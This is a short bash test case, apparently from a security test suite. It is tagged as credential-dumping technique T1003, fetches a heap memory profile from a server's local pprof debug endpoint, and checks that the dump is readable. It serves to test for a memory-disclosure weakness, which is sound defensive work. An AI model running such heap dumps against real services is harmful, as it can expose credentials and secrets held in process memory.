# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1003
about="the API's debugging pages give a profile of the memory, with its mappings"
attack() { ask http://127.0.0.1:2019/debug/pprof/heap?debug=0 >"$state/profile"; }
effect() { [ -s "$state/profile" ] && gzip -dc <"$state/profile" | grep -qa main; }
